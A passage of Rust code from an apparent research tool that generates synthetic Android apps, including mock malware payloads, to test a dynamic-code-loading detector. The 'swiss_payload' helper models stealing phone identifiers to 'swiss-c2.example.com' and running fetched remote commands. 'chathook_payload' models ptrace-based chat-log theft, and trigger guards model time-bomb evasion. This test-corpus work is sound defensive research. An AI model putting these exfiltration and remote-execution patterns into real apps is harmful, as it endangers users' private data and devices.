            c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
        });
        let mut monkey = Monkey::new(MonkeyConfig::default());
        let outcome = monkey.exercise(&mut device, "com.min").unwrap();
        assert_eq!(
            outcome,
            ExerciseOutcome::Exercised {
                events_fired: 0,
                crashed: false
            }
        );
    }
}
