//! Property tests for the corpus planner: structural invariants must hold
//! for any scale and seed.

use dydroid_workload::plan::plan_corpus;
use dydroid_workload::{CorpusSpec, EntityPlan};
use proptest::prelude::*;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn plan_invariants(
        scale in 0.002f64..0.05,
        seed in any::<u64>(),
    ) {
        let spec = CorpusSpec { scale, seed };
        let plans = plan_corpus(&spec);
        prop_assert_eq!(plans.len(), spec.total_apps());

        // Unique packages.
        let unique: std::collections::HashSet<&String> =
            plans.iter().map(|p| &p.package).collect();
        prop_assert_eq!(unique.len(), plans.len());

        for p in &plans {
            // Special classes imply consistent structure.
            if p.remote_fetch {
                prop_assert!(p.dex.is_some(), "{} remote without dex", p.package);
                prop_assert!(!p.google_ads, "{} remote+ads", p.package);
            }
            if let Some((family, triggers)) = &p.malware {
                prop_assert!(!triggers.is_empty());
                if family.is_native() {
                    prop_assert!(p.native.map(|d| d.reachable).unwrap_or(false));
                } else {
                    prop_assert!(p.dex.map(|d| d.reachable).unwrap_or(false));
                }
            }
            if p.packer {
                prop_assert!(!p.anti_decompilation);
                prop_assert!(!p.lexical && !p.reflection, "packers measured separately");
            }
            if p.anti_repackaging {
                prop_assert!(!p.has_write_external, "rewrite-fail apps must need rewriting");
            }
            // Privacy plans only on reachable dex apps.
            if !p.privacy.is_empty() {
                prop_assert!(p.dex.map(|d| d.reachable).unwrap_or(false));
                for leak in &p.privacy {
                    prop_assert!(leak.type_index < 18);
                    if !leak.exclusively_third_party {
                        prop_assert!(
                            p.dex.map(|d| d.entity != EntityPlan::ThirdParty).unwrap_or(false),
                            "{}: own leak needs an own-entity load",
                            p.package
                        );
                    }
                }
            }
            // Metadata sanity.
            prop_assert!(p.metadata.category < 42);
            prop_assert!(p.metadata.avg_rating >= 1.0 && p.metadata.avg_rating <= 5.0);
        }

        // Rare populations are represented at every scale.
        prop_assert!(plans.iter().any(|p| p.packer));
        prop_assert!(plans.iter().any(|p| p.remote_fetch));
        prop_assert!(plans.iter().any(|p| p.malware.is_some()));
        prop_assert!(plans.iter().any(|p| p.vuln.is_some()));
        prop_assert!(plans.iter().any(|p| p.anti_decompilation));
    }

    #[test]
    fn plan_deterministic_in_spec(seed in any::<u64>()) {
        let spec = CorpusSpec { scale: 0.003, seed };
        prop_assert_eq!(plan_corpus(&spec), plan_corpus(&spec));
    }
}

#[test]
fn plan_supports_above_paper_scale() {
    // Planning (not building) at 1.5× the paper must work: unique names,
    // correct total.
    let spec = CorpusSpec {
        scale: 1.5,
        seed: 1,
    };
    let plans = plan_corpus(&spec);
    assert_eq!(plans.len(), spec.total_apps());
    let unique: std::collections::HashSet<&String> = plans.iter().map(|p| &p.package).collect();
    assert_eq!(unique.len(), plans.len());
}
