//! Bytecode and payload emission helpers shared by the app factory.
//!
//! Registers: helpers use `v1..v9` and expect the enclosing method to have
//! declared at least 12 registers; `v0` stays reserved for `this`.

use dydroid_dex::builder::{DexBuilder, Label, MethodBuilder};
use dydroid_dex::native::{Arch, NativeFunction, NativeInsn};
use dydroid_dex::{AccessFlags, CmpKind, DexFile, MethodRef, NativeLibrary};

use crate::plan::TriggerSet;

/// The release date malware time-bombs compare against (late Sept 2016,
/// before the corpus crawl date the device clock defaults to).
pub const RELEASE_MS: i64 = 1_475_000_000_000;

/// Identifier generator: meaningful names, or ProGuard-style letters when
/// lexical obfuscation is on.
#[derive(Debug)]
pub struct Namer {
    lexical: bool,
    counter: usize,
}

impl Namer {
    /// Creates a namer.
    pub fn new(lexical: bool) -> Self {
        Namer {
            lexical,
            counter: 0,
        }
    }

    fn next_short(&mut self) -> String {
        let mut n = self.counter;
        self.counter += 1;
        let mut s = String::new();
        loop {
            s.insert(0, (b'a' + (n % 26) as u8) as char);
            n /= 26;
            if n == 0 {
                break;
            }
            n -= 1;
        }
        s
    }

    /// A class simple name.
    pub fn class(&mut self, meaningful: &str) -> String {
        if self.lexical {
            // Class names conventionally start uppercase even under
            // ProGuard ("a" is also common; mixed is fine for the test).
            self.next_short()
        } else {
            meaningful.to_string()
        }
    }

    /// A method or field name.
    pub fn member(&mut self, meaningful: &str) -> String {
        if self.lexical {
            self.next_short()
        } else {
            meaningful.to_string()
        }
    }
}

/// Emits: open asset `name`, read into a buffer, write to file `dst`.
pub fn stage_asset(m: &mut MethodBuilder, asset: &str, dst: &str) {
    m.const_str(1, asset);
    m.invoke_static(
        MethodRef::new(
            "android.content.res.AssetManager",
            "open",
            "(Ljava/lang/String;)Ljava/io/InputStream;",
        ),
        vec![1],
    );
    m.move_result(2);
    m.new_instance(3, "java.io.Buffer");
    m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![3]);
    m.invoke_virtual(
        MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
        vec![2, 3],
    );
    m.new_instance(4, "java.io.FileOutputStream");
    m.const_str(5, dst);
    m.invoke_direct(
        MethodRef::new(
            "java.io.FileOutputStream",
            "<init>",
            "(Ljava/lang/String;)V",
        ),
        vec![4, 5],
    );
    m.invoke_virtual(
        MethodRef::new("java.io.FileOutputStream", "write", "(Ljava/io/Buffer;)V"),
        vec![4, 3],
    );
}

/// Emits: fetch `url` and read the body into a buffer that is then
/// discarded — ad-impression traffic with no flow into any file.
pub fn fetch_and_discard(m: &mut MethodBuilder, url: &str) {
    m.new_instance(1, "java.net.URL");
    m.const_str(2, url);
    m.invoke_direct(
        MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
        vec![1, 2],
    );
    m.invoke_virtual(
        MethodRef::new(
            "java.net.URL",
            "openConnection",
            "()Ljava/net/URLConnection;",
        ),
        vec![1],
    );
    m.move_result(2);
    m.invoke_virtual(
        MethodRef::new(
            "java.net.HttpURLConnection",
            "getInputStream",
            "()Ljava/io/InputStream;",
        ),
        vec![2],
    );
    m.move_result(3);
    m.new_instance(4, "java.io.Buffer");
    m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![4]);
    m.invoke_virtual(
        MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
        vec![3, 4],
    );
}

/// Emits: download `url` through the stream API into file `dst`.
pub fn download_to_file(m: &mut MethodBuilder, url: &str, dst: &str) {
    m.new_instance(1, "java.net.URL");
    m.const_str(2, url);
    m.invoke_direct(
        MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
        vec![1, 2],
    );
    m.invoke_virtual(
        MethodRef::new(
            "java.net.URL",
            "openConnection",
            "()Ljava/net/URLConnection;",
        ),
        vec![1],
    );
    m.move_result(2);
    m.invoke_virtual(
        MethodRef::new(
            "java.net.HttpURLConnection",
            "getInputStream",
            "()Ljava/io/InputStream;",
        ),
        vec![2],
    );
    m.move_result(3);
    m.new_instance(4, "java.io.Buffer");
    m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![4]);
    m.invoke_virtual(
        MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
        vec![3, 4],
    );
    m.new_instance(5, "java.io.FileOutputStream");
    m.const_str(6, dst);
    m.invoke_direct(
        MethodRef::new(
            "java.io.FileOutputStream",
            "<init>",
            "(Ljava/lang/String;)V",
        ),
        vec![5, 6],
    );
    m.invoke_virtual(
        MethodRef::new("java.io.FileOutputStream", "write", "(Ljava/io/Buffer;)V"),
        vec![5, 4],
    );
}

/// Emits: `new DexClassLoader(dex_path, odex_dir)`, load `payload_class`,
/// instantiate it and call `run_method()`.
pub fn dex_load_and_run(
    m: &mut MethodBuilder,
    dex_path: &str,
    odex_dir: &str,
    payload_class: &str,
    run_method: &str,
) {
    m.const_str(1, dex_path);
    m.const_str(2, odex_dir);
    m.new_instance(3, "dalvik.system.DexClassLoader");
    m.invoke_direct(
        MethodRef::new(
            "dalvik.system.DexClassLoader",
            "<init>",
            "(Ljava/lang/String;Ljava/lang/String;)V",
        ),
        vec![3, 1, 2],
    );
    m.const_str(4, payload_class);
    m.invoke_virtual(
        MethodRef::new(
            "dalvik.system.DexClassLoader",
            "loadClass",
            "(Ljava/lang/String;)Ljava/lang/Class;",
        ),
        vec![3, 4],
    );
    m.move_result(5);
    m.invoke_virtual(
        MethodRef::new("java.lang.Class", "newInstance", "()Ljava/lang/Object;"),
        vec![5],
    );
    m.move_result(6);
    m.invoke_virtual(MethodRef::new(payload_class, run_method, "()V"), vec![6]);
}

/// Emits: `new File(path).delete()` — the ad-SDK temp-file cleanup the
/// interception hook must defeat.
pub fn delete_file(m: &mut MethodBuilder, path: &str) {
    m.new_instance(1, "java.io.File");
    m.const_str(2, path);
    m.invoke_direct(
        MethodRef::new("java.io.File", "<init>", "(Ljava/lang/String;)V"),
        vec![1, 2],
    );
    m.invoke_virtual(MethodRef::new("java.io.File", "delete", "()Z"), vec![1]);
}

/// Emits `System.loadLibrary(name)`.
pub fn load_library(m: &mut MethodBuilder, name: &str) {
    m.const_str(1, name);
    m.invoke_static(
        MethodRef::new("java.lang.System", "loadLibrary", "(Ljava/lang/String;)V"),
        vec![1],
    );
}

/// Emits `System.load(path)`.
pub fn load_path(m: &mut MethodBuilder, path: &str) {
    m.const_str(1, path);
    m.invoke_static(
        MethodRef::new("java.lang.System", "load", "(Ljava/lang/String;)V"),
        vec![1],
    );
}

/// Emits the Table VIII trigger guard: each active check conditionally
/// jumps to the returned label, which the caller must bind where the
/// hidden path resumes (typically right before `return-void`).
pub fn trigger_guard(m: &mut MethodBuilder, triggers: &TriggerSet) -> Label {
    let skip = m.label();
    if triggers.time_bomb {
        m.invoke_static(
            MethodRef::new("java.lang.System", "currentTimeMillis", "()J"),
            vec![],
        );
        m.move_result(8);
        m.const_int(9, RELEASE_MS);
        m.if_cmp(CmpKind::Lt, 8, 9, skip);
    }
    if triggers.airplane_check {
        m.invoke_static(
            MethodRef::new("android.provider.Settings", "getAirplaneMode", "()I"),
            vec![],
        );
        m.move_result(8);
        m.if_zero(CmpKind::Ne, 8, skip);
    }
    if triggers.needs_network {
        m.invoke_static(
            MethodRef::new("android.net.ConnectivityManager", "isConnected", "()Z"),
            vec![],
        );
        m.move_result(8);
        m.if_zero(CmpKind::Eq, 8, skip);
    }
    if triggers.location_check {
        m.invoke_static(
            MethodRef::new(
                "android.location.LocationManager",
                "isProviderEnabled",
                "()Z",
            ),
            vec![],
        );
        m.move_result(8);
        m.if_zero(CmpKind::Eq, 8, skip);
    }
    skip
}

/// Emits a reflective self-call (`Class.forName` → `getMethod` →
/// `Method.invoke`) — the reflection-technique marker of Table VI.
pub fn reflection_usage(m: &mut MethodBuilder, target_class: &str, target_method: &str) {
    m.const_str(1, target_class);
    m.invoke_static(
        MethodRef::new(
            "java.lang.Class",
            "forName",
            "(Ljava/lang/String;)Ljava/lang/Class;",
        ),
        vec![1],
    );
    m.move_result(2);
    m.invoke_virtual(
        MethodRef::new("java.lang.Class", "newInstance", "()Ljava/lang/Object;"),
        vec![2],
    );
    m.move_result(3);
    m.const_str(4, target_method);
    m.invoke_virtual(
        MethodRef::new(
            "java.lang.Class",
            "getMethod",
            "(Ljava/lang/String;)Ljava/lang/reflect/Method;",
        ),
        vec![2, 4],
    );
    m.move_result(5);
    m.invoke_virtual(
        MethodRef::new(
            "java.lang.reflect.Method",
            "invoke",
            "(Ljava/lang/Object;)Ljava/lang/Object;",
        ),
        vec![5, 3],
    );
}

// ---------------------------------------------------------------------
// Privacy-source emission (canonical Table X type order, indices 0..18).
// ---------------------------------------------------------------------

/// Emits the source call for canonical privacy-type `index`, leaving the
/// value in `v1`.
pub fn privacy_source(m: &mut MethodBuilder, index: usize) {
    let api = |m: &mut MethodBuilder, class: &str, method: &str| {
        m.invoke_static(
            MethodRef::new(class, method, "()Ljava/lang/String;"),
            vec![],
        );
        m.move_result(1);
    };
    let query = |m: &mut MethodBuilder, uri: &str| {
        m.const_str(2, uri);
        m.invoke_static(
            MethodRef::new(
                "android.content.ContentResolver",
                "query",
                "(Ljava/lang/String;)Ljava/lang/String;",
            ),
            vec![2],
        );
        m.move_result(1);
    };
    match index {
        0 => api(
            m,
            "android.location.LocationManager",
            "getLastKnownLocation",
        ),
        1 => api(m, "android.telephony.TelephonyManager", "getDeviceId"),
        2 => api(m, "android.telephony.TelephonyManager", "getSubscriberId"),
        3 => api(
            m,
            "android.telephony.TelephonyManager",
            "getSimSerialNumber",
        ),
        4 => api(m, "android.telephony.TelephonyManager", "getLine1Number"),
        5 => api(m, "android.accounts.AccountManager", "getAccounts"),
        6 => api(
            m,
            "android.content.pm.PackageManager",
            "getInstalledApplications",
        ),
        7 => api(
            m,
            "android.content.pm.PackageManager",
            "getInstalledPackages",
        ),
        8 => query(m, "content://contacts/people"),
        9 => query(m, "content://com.android.calendar/events"),
        10 => query(m, "content://call_log/calls"),
        11 => query(m, "content://browser/bookmarks"),
        12 => query(m, "content://media/audio"),
        13 => query(m, "content://media/images"),
        14 => query(m, "content://media/video"),
        15 => query(m, "content://settings/global"),
        16 => query(m, "content://mms/inbox"),
        17 => query(m, "content://sms/inbox"),
        _ => api(m, "android.telephony.TelephonyManager", "getDeviceId"),
    }
}

/// Emits a `Log.d("t", v1)` sink call.
pub fn log_sink(m: &mut MethodBuilder) {
    m.const_str(6, "t");
    m.invoke_static(
        MethodRef::new(
            "android.util.Log",
            "d",
            "(Ljava/lang/String;Ljava/lang/String;)I",
        ),
        vec![6, 1],
    );
}

// ---------------------------------------------------------------------
// Payload builders.
// ---------------------------------------------------------------------

/// A payload DEX with one class exposing `run()V` that leaks the given
/// canonical privacy types to the log sink.
pub fn privacy_payload(class_name: &str, type_indices: &[usize]) -> DexFile {
    let mut b = DexBuilder::new();
    let c = b.class(class_name, "java.lang.Object");
    c.default_constructor();
    let m = c.method("run", "()V", AccessFlags::PUBLIC);
    m.registers(10);
    for &idx in type_indices {
        privacy_source(m, idx);
        log_sink(m);
    }
    m.ret_void();
    b.build()
}

/// The Google-Ads-like payload: reads device settings only (Table X's
/// dominant Settings row).
pub fn ad_payload(class_name: &str) -> DexFile {
    privacy_payload(class_name, &[15])
}

/// Swiss-code-monkeys payload: a dropper that starts a spy service which
/// exfiltrates IMEI / phone number / IMSI and executes a remote command.
/// `variant` only changes internal class names and constants — the ACFG
/// structure is the family signature.
pub fn swiss_payload(variant: usize) -> (DexFile, String) {
    let pkg = format!("com.swisscm.v{variant}");
    let dropper = format!("{pkg}.Dropper");
    let service = format!("{pkg}.SpyService");
    let mut b = DexBuilder::new();
    {
        let c = b.class(&dropper, "java.lang.Object");
        c.default_constructor();
        let m = c.method("run", "()V", AccessFlags::PUBLIC);
        m.registers(10);
        m.const_str(1, &service);
        m.invoke_static(
            MethodRef::new(
                "android.content.Context",
                "startService",
                "(Ljava/lang/String;)V",
            ),
            vec![1],
        );
        m.ret_void();
    }
    {
        let c = b.class(&service, "android.app.Service");
        c.default_constructor();
        let m = c.method("onStart", "()V", AccessFlags::PUBLIC);
        m.registers(12);
        // Harvest identifiers.
        m.invoke_static(
            MethodRef::new(
                "android.telephony.TelephonyManager",
                "getDeviceId",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(1);
        m.invoke_static(
            MethodRef::new(
                "android.telephony.TelephonyManager",
                "getLine1Number",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(2);
        m.invoke_static(
            MethodRef::new(
                "android.telephony.TelephonyManager",
                "getSubscriberId",
                "()Ljava/lang/String;",
            ),
            vec![],
        );
        m.move_result(3);
        m.invoke_virtual(
            MethodRef::new(
                "java.lang.String",
                "concat",
                "(Ljava/lang/String;)Ljava/lang/String;",
            ),
            vec![1, 2],
        );
        m.move_result(4);
        m.invoke_virtual(
            MethodRef::new(
                "java.lang.String",
                "concat",
                "(Ljava/lang/String;)Ljava/lang/String;",
            ),
            vec![4, 3],
        );
        m.move_result(4);
        // Exfiltrate.
        m.new_instance(5, "java.net.URL");
        m.const_str(6, "http://swiss-c2.example.com/upload");
        m.invoke_direct(
            MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
            vec![5, 6],
        );
        m.invoke_virtual(
            MethodRef::new(
                "java.net.URL",
                "openConnection",
                "()Ljava/net/URLConnection;",
            ),
            vec![5],
        );
        m.move_result(7);
        m.invoke_virtual(
            MethodRef::new(
                "java.net.HttpURLConnection",
                "getOutputStream",
                "()Ljava/io/OutputStream;",
            ),
            vec![7],
        );
        m.move_result(8);
        m.invoke_virtual(
            MethodRef::new("java.io.OutputStream", "write", "(Ljava/lang/String;)V"),
            vec![8, 4],
        );
        // Fetch and execute a remote command.
        m.new_instance(5, "java.net.URL");
        m.const_str(6, "http://swiss-c2.example.com/cmd");
        m.invoke_direct(
            MethodRef::new("java.net.URL", "<init>", "(Ljava/lang/String;)V"),
            vec![5, 6],
        );
        m.invoke_virtual(
            MethodRef::new(
                "java.net.URL",
                "openConnection",
                "()Ljava/net/URLConnection;",
            ),
            vec![5],
        );
        m.move_result(7);
        m.invoke_virtual(
            MethodRef::new(
                "java.net.HttpURLConnection",
                "getInputStream",
                "()Ljava/io/InputStream;",
            ),
            vec![7],
        );
        m.move_result(9);
        m.new_instance(10, "java.io.Buffer");
        m.invoke_direct(MethodRef::new("java.io.Buffer", "<init>", "()V"), vec![10]);
        m.invoke_virtual(
            MethodRef::new("java.io.InputStream", "read", "(Ljava/io/Buffer;)I"),
            vec![9, 10],
        );
        m.invoke_virtual(
            MethodRef::new("java.io.Buffer", "toString", "()Ljava/lang/String;"),
            vec![10],
        );
        m.move_result(11);
        m.invoke_static(
            MethodRef::new("java.lang.Runtime", "exec", "(Ljava/lang/String;)V"),
            vec![11],
        );
        m.ret_void();
    }
    (b.build(), dropper)
}

/// Airpush/minimob adware payload: push notification, pin a shortcut,
/// redirect the browser homepage.
pub fn airpush_payload(variant: usize) -> (DexFile, String) {
    let cls = format!("com.airpush.minimob.v{variant}.AdPusher");
    let mut b = DexBuilder::new();
    let c = b.class(&cls, "java.lang.Object");
    c.default_constructor();
    let m = c.method("run", "()V", AccessFlags::PUBLIC);
    m.registers(10);
    m.const_str(1, "Hot game! Install now!");
    m.invoke_static(
        MethodRef::new(
            "android.app.NotificationManager",
            "notify",
            "(Ljava/lang/String;)V",
        ),
        vec![1],
    );
    m.const_str(1, "FreeCoins");
    m.invoke_static(
        MethodRef::new(
            "android.content.pm.ShortcutManager",
            "requestPinShortcut",
            "(Ljava/lang/String;)V",
        ),
        vec![1],
    );
    m.const_str(1, "http://ads.minimob.example.com/home");
    m.invoke_static(
        MethodRef::new(
            "android.provider.Browser",
            "setHomepage",
            "(Ljava/lang/String;)V",
        ),
        vec![1],
    );
    m.ret_void();
    (b.build(), cls)
}

/// Chathook-ptrace native payload: obtain root, ptrace the chat apps,
/// hook the chat window, exfiltrate the history. The `variant` alternates
/// the primary victim between QQ and WeChat.
pub fn chathook_payload(soname: &str, variant: usize) -> NativeLibrary {
    let victim = if variant.is_multiple_of(2) {
        "com.tencent.mobileqq"
    } else {
        "com.tencent.mm"
    };
    let code = vec![
        NativeInsn::Syscall {
            name: "setuid".to_string(),
            arg: None,
        },
        NativeInsn::Branch {
            cond: dydroid_dex::NativeCond::Zero,
            reg: 0,
            target: 7,
        },
        NativeInsn::Syscall {
            name: "ptrace".to_string(),
            arg: Some(victim.to_string()),
        },
        NativeInsn::Syscall {
            name: "hook".to_string(),
            arg: Some("chat_window".to_string()),
        },
        NativeInsn::Syscall {
            name: "connect".to_string(),
            arg: Some("chathook-c2.example.com".to_string()),
        },
        NativeInsn::Syscall {
            name: "send".to_string(),
            arg: Some("chathook-c2.example.com:chatlog".to_string()),
        },
        NativeInsn::Ret,
        NativeInsn::Ret,
    ];
    NativeLibrary::new(soname, Arch::Arm)
        .with_function(NativeFunction::exported("JNI_OnLoad", code))
}

/// A benign native library with a trivial `JNI_OnLoad`.
pub fn trivial_native(soname: &str) -> NativeLibrary {
    NativeLibrary::new(soname, Arch::Arm).with_function(NativeFunction::exported(
        "JNI_OnLoad",
        vec![NativeInsn::Const { dst: 0, value: 1 }, NativeInsn::Ret],
    ))
}

/// A trivial benign payload DEX exposing `run()V`.
pub fn trivial_payload(class_name: &str) -> DexFile {
    let mut b = DexBuilder::new();
    let c = b.class(class_name, "java.lang.Object");
    c.default_constructor();
    let m = c.method("run", "()V", AccessFlags::PUBLIC);
    m.registers(4);
    m.const_int(1, 1);
    m.ret_void();
    b.build()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn namer_modes() {
        let mut plain = Namer::new(false);
        assert_eq!(plain.class("MainActivity"), "MainActivity");
        assert_eq!(plain.member("loadContent"), "loadContent");
        let mut obf = Namer::new(true);
        assert_eq!(obf.class("MainActivity"), "a");
        assert_eq!(obf.member("loadContent"), "b");
        // Exhaust a cycle to check the base-26 rollover.
        for _ in 0..24 {
            obf.member("x");
        }
        assert_eq!(obf.member("y"), "aa");
    }

    #[test]
    fn payloads_parse_and_validate() {
        let (dex, entry) = swiss_payload(3);
        assert!(dex.validate().is_ok());
        assert!(dex.class(&entry).is_some());
        let (dex, entry) = airpush_payload(1);
        assert!(dex.validate().is_ok());
        assert!(dex.class(&entry).is_some());
        let lib = chathook_payload("libch.so", 0);
        assert!(NativeLibrary::parse(&lib.to_bytes()).is_ok());
        assert!(trivial_payload("com.x.P").validate().is_ok());
    }

    #[test]
    fn swiss_variants_share_structure() {
        // The MAIL translation must be invariant across variants (the
        // detector depends on it).
        let (a, _) = swiss_payload(1);
        let (b, _) = swiss_payload(2);
        let mail_a: Vec<Vec<String>> = a
            .methods()
            .map(|(_, m)| m.code.iter().map(|i| format!("{i:?}")).collect())
            .collect();
        // Structures must have the same length per method.
        let mail_b: Vec<Vec<String>> = b
            .methods()
            .map(|(_, m)| m.code.iter().map(|i| format!("{i:?}")).collect())
            .collect();
        assert_eq!(mail_a.len(), mail_b.len());
        for (x, y) in mail_a.iter().zip(&mail_b) {
            assert_eq!(x.len(), y.len());
        }
    }

    #[test]
    fn privacy_payload_has_one_snippet_per_type() {
        let dex = privacy_payload("com.sdk.C", &[0, 1, 17]);
        assert!(dex.validate().is_ok());
        let run = dex
            .class("com.sdk.C")
            .unwrap()
            .method_by_name("run")
            .unwrap();
        let sinks = run
            .code
            .iter()
            .filter(|i| {
                i.invoked_method()
                    .map(|m| m.class == "android.util.Log")
                    .unwrap_or(false)
            })
            .count();
        assert_eq!(sinks, 3);
    }

    #[test]
    fn trigger_guard_emits_expected_probes() {
        let mut b = DexBuilder::new();
        let c = b.class("com.x.G", "java.lang.Object");
        let m = c.method("go", "()V", AccessFlags::PUBLIC);
        m.registers(12);
        let skip = trigger_guard(
            m,
            &TriggerSet {
                time_bomb: true,
                airplane_check: true,
                needs_network: true,
                location_check: true,
            },
        );
        m.const_int(1, 1);
        m.bind(skip);
        m.ret_void();
        let dex = b.build();
        assert!(dex.validate().is_ok());
        let code = &dex
            .class("com.x.G")
            .unwrap()
            .method_by_name("go")
            .unwrap()
            .code;
        let calls: Vec<String> = code
            .iter()
            .filter_map(|i| i.invoked_method().map(|m| m.name.clone()))
            .collect();
        assert_eq!(
            calls,
            vec![
                "currentTimeMillis",
                "getAirplaneMode",
                "isConnected",
                "isProviderEnabled"
            ]
        );
    }
}
