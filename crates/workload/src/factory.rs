//! Materialises an [`AppPlan`] into a runnable APK plus its environment
//! fixtures (hosted remote payloads, files pre-planted by other apps).

use dydroid_dex::builder::{DexBuilder, MethodBuilder};
use dydroid_dex::manifest::{INTERNET, WRITE_EXTERNAL_STORAGE};
use dydroid_dex::{AccessFlags, Apk, Component, Manifest, MethodRef};

use crate::emit::{self, Namer};
use crate::names;
use crate::packer;
use crate::plan::{AppPlan, EntityPlan, MalwareFamily, VulnPlan};

/// The repackaging trap entry (must match the analysis crate's
/// `decompiler::ANTI_REPACK_TRAP`; asserted by an integration test).
pub const ANTI_REPACK_TRAP: &str = "res/raw/.pack";

/// A built app plus the environment it needs.
#[derive(Debug, Clone)]
pub struct BuildOutput {
    /// The installable APK.
    pub apk: Vec<u8>,
    /// Remote resources to host: `(domain, path, bytes)`.
    pub remote: Vec<(String, String, Vec<u8>)>,
    /// Files other apps planted on the device: `(path, owner pkg, bytes)`.
    pub device_files: Vec<(String, String, Vec<u8>)>,
}

/// Deferred body emitters for methods on the main activity.
type OwnMethodBody = Box<dyn FnOnce(&mut MethodBuilder)>;

/// What one loader contributes to the app under construction.
enum LoaderInit {
    /// `invoke-static class.method()V`.
    Static(String, String),
    /// `invoke-virtual this.method()V` on the main activity.
    OwnMethod(String),
}

/// Builds the APK (and fixtures) for a plan.
pub fn build_app(plan: &AppPlan) -> BuildOutput {
    if plan.packer {
        return build_packed(plan);
    }

    let pkg = &plan.package;
    let mut namer = Namer::new(plan.lexical);
    let main_simple = namer.class("MainActivity");
    let main_cls = format!("{pkg}.{main_simple}");

    let mut b = DexBuilder::new();
    let mut assets: Vec<(String, Vec<u8>)> = Vec::new();
    let mut libs: Vec<(String, Vec<u8>)> = Vec::new();
    let mut remote: Vec<(String, String, Vec<u8>)> = Vec::new();
    let mut device_files: Vec<(String, String, Vec<u8>)> = Vec::new();
    let mut inits: Vec<LoaderInit> = Vec::new();
    let mut own_methods: Vec<(String, OwnMethodBody)> = Vec::new();
    let mut asset_counter = 0usize;
    let hash = simple_hash(pkg);

    // ------------------------------------------------------------------
    // DEX DCL loaders.
    // ------------------------------------------------------------------
    if let Some(dex_plan) = &plan.dex {
        if dex_plan.reachable && !plan.remote_fetch && plan.malware.is_none() {
            // Third-party loader (ads or generic SDK).
            if matches!(dex_plan.entity, EntityPlan::ThirdParty | EntityPlan::Both)
                && plan.vuln.is_none()
            {
                let (sdk_pkg, payload_cls, payload) = if plan.google_ads {
                    let cls = "com.google.ads.dynamic.AdContent".to_string();
                    (
                        names::GOOGLE_ADS_SDK.to_string(),
                        cls.clone(),
                        emit::ad_payload(&cls),
                    )
                } else {
                    let vendor = names::sdk_vendor(hash);
                    let cls = format!("{vendor}.payload.Collector");
                    let types: Vec<usize> = plan
                        .privacy
                        .iter()
                        .filter(|l| l.exclusively_third_party)
                        .map(|l| l.type_index)
                        .collect();
                    (
                        vendor.to_string(),
                        cls.clone(),
                        emit::privacy_payload(&cls, &types),
                    )
                };
                let asset = format!("sdk{asset_counter}.bin");
                asset_counter += 1;
                let staged = format!("/data/data/{pkg}/cache/ad{asset_counter}.dex");
                let odex = format!("/data/data/{pkg}/odex");
                assets.push((asset.clone(), payload.to_bytes()));

                let loader_cls = format!("{sdk_pkg}.{}", namer.class("AdLoader"));
                let init_name = namer.member("init");
                let c = b.class(&loader_cls, "java.lang.Object");
                let m = c.method(&init_name, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
                m.registers(12);
                if plan.google_ads {
                    // Real ad SDKs phone home for creatives before staging
                    // their (local!) payload — the traffic that fools
                    // path-heuristic provenance but not the flow graph.
                    remote.push((
                        "ads.google.example.com".to_string(),
                        "/impression".to_string(),
                        b"creative-manifest".to_vec(),
                    ));
                    emit::fetch_and_discard(m, "http://ads.google.example.com/impression");
                }
                emit::stage_asset(m, &asset, &staged);
                emit::dex_load_and_run(m, &staged, &odex, &payload_cls, "run");
                // The temp-file cleanup the interception hook suppresses.
                emit::delete_file(m, &staged);
                m.ret_void();
                inits.push(LoaderInit::Static(loader_cls, init_name));
            }
            // Own loader.
            if matches!(dex_plan.entity, EntityPlan::Own | EntityPlan::Both) && plan.vuln.is_none()
            {
                let payload_cls = format!("{pkg}.plugin.Module");
                let types: Vec<usize> = plan
                    .privacy
                    .iter()
                    .filter(|l| !l.exclusively_third_party)
                    .map(|l| l.type_index)
                    .collect();
                let payload = emit::privacy_payload(&payload_cls, &types);
                let asset = format!("own{asset_counter}.bin");
                let staged = format!("/data/data/{pkg}/files/own.dex");
                let odex = format!("/data/data/{pkg}/odex");
                assets.push((asset.clone(), payload.to_bytes()));
                let method = namer.member("loadPlugin");
                own_methods.push((
                    method.clone(),
                    Box::new(move |m: &mut MethodBuilder| {
                        emit::stage_asset(m, &asset, &staged);
                        emit::dex_load_and_run(m, &staged, &odex, &payload_cls, "run");
                    }),
                ));
                inits.push(LoaderInit::OwnMethod(method));
            }
        }
        if !dex_plan.reachable {
            // Dead DCL code: passes the static filter, never runs.
            let vendor = names::sdk_vendor(hash + 1);
            let loader_cls = format!("{vendor}.{}", namer.class("PrefetchHelper"));
            let method = namer.member("prefetchLater");
            let c = b.class(&loader_cls, "java.lang.Object");
            let m = c.method(&method, "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
            m.registers(8);
            let staged = format!("/data/data/{pkg}/cache/never.dex");
            m.const_str(1, &staged);
            m.const_str(2, format!("/data/data/{pkg}/odex"));
            m.new_instance(3, "dalvik.system.DexClassLoader");
            m.invoke_direct(
                MethodRef::new(
                    "dalvik.system.DexClassLoader",
                    "<init>",
                    "(Ljava/lang/String;Ljava/lang/String;)V",
                ),
                vec![3, 1, 2],
            );
            m.ret_void();
        }
    }

    // ------------------------------------------------------------------
    // Remote-fetch loader (Table V).
    // ------------------------------------------------------------------
    if plan.remote_fetch {
        let payload_cls = "com.baidu.mobads.dynamic.AdApp".to_string();
        let payload = emit::ad_payload(&payload_cls);
        let url_path = format!("/ads/pa/{pkg}.jar");
        let url = format!("http://{}{}", names::BAIDU_DOMAIN, url_path);
        remote.push((
            names::BAIDU_DOMAIN.to_string(),
            url_path,
            payload.to_bytes(),
        ));
